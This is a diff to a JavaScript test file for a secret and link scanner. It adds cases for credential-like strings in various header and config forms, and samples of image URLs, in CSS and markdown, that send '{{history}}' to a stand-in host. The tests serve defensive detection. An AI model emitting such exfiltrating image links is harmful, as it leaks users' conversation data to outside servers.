@@ -53,7 +53,23 @@ test('personal data is told from numbers by its checksum or form', () => {
   ]);
 });
 
+test.each([
+  'X-Api-Key: 9fK2mQ7xWb4ZtR8p',
+  'Private_Key = 9fK2mQ7xWb4ZtR8p',
+  'accessKey: "9fK2mQ7xWb4ZtR8p"',
+  'PASSPHRASE=9fK2mQ7xWb4ZtR8p',
+  'AUTHORIZATION: BASIC 9fK2mQ7xWb4ZtR8p',
+  'BEARER 9fK2mQ7xWb4ZtR8pHv3Ld6Ny',
+  'SERVER=db.internal;UID=sa;PWD=9fK2mQ7xWb4ZtR8p',
+  'Aws Access Key: 9fK2mQ7xWb4ZtR8pHv3Ld6NyCs5Gj1Tf0Ae8Uo7i',
+])('a secret is found in whichever case its name is written: %s', (text) => {
+  expect(findSecrets(text)).toHaveLength(1);
+});
+
 test('an image that carries data away is found, a badge is not', () => {
+  expect(found('a { background: URL(https://e.example/p.png?d={{history}}) }', findLinks)).toEqual([
+    'exfiltratingImage https://e.example/p.png?d={{history}}',
+  ]);
   expect(found('![x](https://e.example/p.png?d={{history}})', findLinks)).toEqual([
     'exfiltratingImage https://e.example/p.png?d={{history}}',
   ]);
